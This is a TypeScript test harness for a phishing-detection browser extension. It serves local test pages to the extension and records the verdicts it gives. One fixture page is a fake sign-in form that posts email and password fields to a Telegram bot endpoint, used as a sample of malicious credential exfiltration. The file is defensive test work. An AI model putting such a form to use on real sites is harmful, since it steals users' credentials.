/** The extension in Chromium, a server with a key that may only judge pages, and a site with benign and hostile pages. */
import type { ServerResponse } from 'node:http';
import { z } from 'zod';
import type { Page as PostedPage } from '../../src/core/page.ts';
import { defineScanner } from '../../src/core/scanner.ts';
import { createPageScanner } from '../../src/scanners/page/index.ts';
import { type TestApp, until, withApp } from './app.ts';
import { type Extension, originOfFolder, withBuiltExtension, withExtension } from './extension.ts';
import { startSite } from './site.ts';

const TOKEN = 'a-token-for-this-test';

/** A form whose password goes to a Telegram bot, which makes a page MALICIOUS on any host. */
const TELEGRAM = 'https://api.telegram.org/bot1:x/sendMessage';

export const PAGES: Readonly<Record<string, string>> = {
  '/garden': `<title>Garden notes</title><h1>Tomatoes</h1><script>document.title</script>`,
  '/phish': `<title>Sign in</title><form method="post" action="${TELEGRAM}">
    <input name="email" type="email" value="ann@garden.example"><input name="pass" type="password" value="hunter2">
    <textarea name="note">dear diary</textarea><button>Sign in</button></form><script>1 + 1</script>`,
};

export interface Scene {
  extension: Extension;
  app: TestApp;
  /** key that may only judge pages */
  key: string;
  /** address of the site, without a trailing slash */
  site: string;
  /** pages that the server got, oldest first */
  received: PostedPage[];
  /** paths that the site was asked for with GET */
  gets: string[];
  /** requests that the site got other than GET: method and path */
  posts: string[];
  /** Waits for a verdict or another end in the badge of a tab. */
  badge(page: Parameters<Extension['badgeOf']>[0], wanted: string): Promise<void>;
  /** What the worker knows of the page in a tab. */
  standing(page: Parameters<Extension['badgeOf']>[0]): Promise<unknown>;
  /** Keys of what the extension keeps in memory. */
  stored(): Promise<string[]>;
  /** Starts the browser again with the same `profile`. */
  restart(work: (extension: Extension) => Promise<void>): Promise<void>;
  /** The pages that the API lists, newest first. */
  assessments(): Promise<
    { url: string; threatLevel: string; riskScore: number; reasons: string[]; id: string }[]
  >;
}

export interface SceneOptions {
  pages?: Readonly<Record<string, string>>;
  /** false: the user has not been asked yet */
  consent?: boolean;
  settings?: Record<string, unknown>;
  /** folder of the browser's profile */
  profile?: string;
}

export async function withScene<T>(
  { pages = PAGES, consent = true, settings = {}, profile }: SceneOptions,
  work: (scene: Scene) => Promise<T>,
): Promise<T> {
  const received: PostedPage[] = [];
  const recorder = defineScanner({
    ...{ name: 'recorder', title: 'Recorder', description: 'Records pages.', version: '1.0.0' },
    ...{
      intrusiveness: 'passive',
      consumes: ['page'],
      produces: ['assessment'],
      options: z.strictObject({}),
    },
    // biome-ignore lint/correctness/useYield: it finds nothing
    async *scan({ page }) {
      received.push(page);
    },
  });
  const gets: string[] = [];
  const posts: string[] = [];
  const options = profile === undefined ? {} : { profile };
  const site = await startSite((request, response) => {
    const { pathname } = new URL(request.url ?? '/', 'http://site');
    if (request.method === 'GET') gets.push(pathname);
    else posts.push(`${request.method} ${pathname}`);
    if (pathname === '/empty') response.writeHead(204).end();
    else if (pathname === '/download')
      response.writeHead(200, { 'content-disposition': 'attachment' }).end('data');
    else answer(response, pages[pathname]);
  });
  const scanners = [recorder, createPageScanner({ blocklists: null })];
  try {
    return await withBuiltExtension((folder) => {
      const env = { SCANWIRE_TOKEN: TOKEN, SCANWIRE_CORS_ORIGINS: originOfFolder(`${folder}/chromium`) };
      return withApp({ env, scanners }, (app) =>
        withExtension(
          folder,
          async (extension) => {
            const key = await limitedKey(app);
            if (consent) await extension.configure({ consent, server: app.url, key, ...settings });
            return await work({
              ...{ extension, app, key, site: site.url.replace(/\/$/, ''), received, gets, posts },
              async standing(page) {
                const key = `tab:${await extension.tabOf(page)}`;
                const all = await (await extension.worker()).evaluate('chrome.storage.session.get()');
                return Object(all)[key];
              },
              async stored() {
                return Object.keys(
                  Object(await (await extension.worker()).evaluate('chrome.storage.session.get()')),
                );
              },
              async restart(again) {
                await extension.context.close();
                await withExtension(folder, again, options);
              },
              async badge(page, wanted) {
                let shown = '';
                const isShown = async () => {
                  shown = await extension.badgeOf(page);
                  return shown === wanted;
                };
                await until(isShown, `the badge of ${page.url()} is ${wanted}`, 20_000).catch((error) => {
                  throw new Error(`${error.message}: it is "${shown}"`);
                });
              },
              async assessments() {
                const { data } = await app.query(
                  '{ assessments(first: 50) { nodes { id url threatLevel riskScore reasons } } }',
                );
                return data.assessments.nodes;
              },
            });
          },
          options,
        ),
      );
    });
  } finally {
    await site.close();
    for (const scanner of scanners) await scanner.close?.();
  }
}

/** @param body undefined if there is no such page; one that ends with `<!--endless-->` is not ended */
function answer(response: ServerResponse, body: string | undefined): void {
  response.writeHead(body === undefined ? 404 : 200, { 'content-type': 'text/html; charset=utf-8' });
  response.write(`<!doctype html><meta charset="utf-8">${body ?? ''}`);
  if (!body?.endsWith('<!--endless-->')) response.end();
}

async function limitedKey({ query }: TestApp): Promise<string> {
  const { data } = await query(`mutation { createApiKey(input: { name: "browser", only: SCAN_PAGE }) {
    ... on CreateApiKeySuccess { secret } ... on Error { message }
  } }`);
  return data.createApiKey.secret;
}
